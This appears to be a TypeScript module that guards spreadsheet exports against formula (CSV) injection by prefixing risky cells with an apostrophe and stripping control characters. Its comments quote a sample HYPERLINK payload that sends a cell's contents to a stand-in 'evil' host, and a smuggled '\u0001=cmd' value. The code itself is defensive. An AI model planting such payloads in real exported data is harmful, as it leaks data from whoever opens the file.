/**
 * First characters that make Excel, LibreOffice or Google Sheets read a cell as a formula (or a
 * DDE command): = + - @, and tab / CR / LF, which some of them skip before looking again.
 */
export const FORMULA_START = /^[=+\-@\t\r\n]/;

/**
 * Neutralises text from the server (item names, account info, receipt numbers...) before it goes
 * into an exported cell: a name such as `=HYPERLINK("http://evil/?"&A1)` must stay text when a
 * manager opens the export. The OWASP-recommended apostrophe prefix is used; spreadsheets show it
 * as text, and our importers take it off again (sheet-read.ts). Numbers we write ourselves are not
 * text and never pass through here, so a negative amount stays a number.
 */
export function safeCell(text: string): string {
  return FORMULA_START.test(text) ? `'${text}` : text;
}

/**
 * Drops characters a spreadsheet cannot hold: XML 1.0 forbids control characters other than tab,
 * LF and CR, lone surrogates and U+FFFE/U+FFFF (Excel rejects a file containing them), and a NUL
 * would make a CSV look binary. Runs before safeCell, so "\u0001=cmd" cannot slip past it.
 */
export function cleanText(text: string): string {
  // biome-ignore lint/suspicious/noControlCharactersInRegex: removing control characters is the point.
  return text.replace(/[\u0000-\u0008\u000b\u000c\u000e-\u001f\ufffe\uffff]|\p{Cs}/gu, '');
}
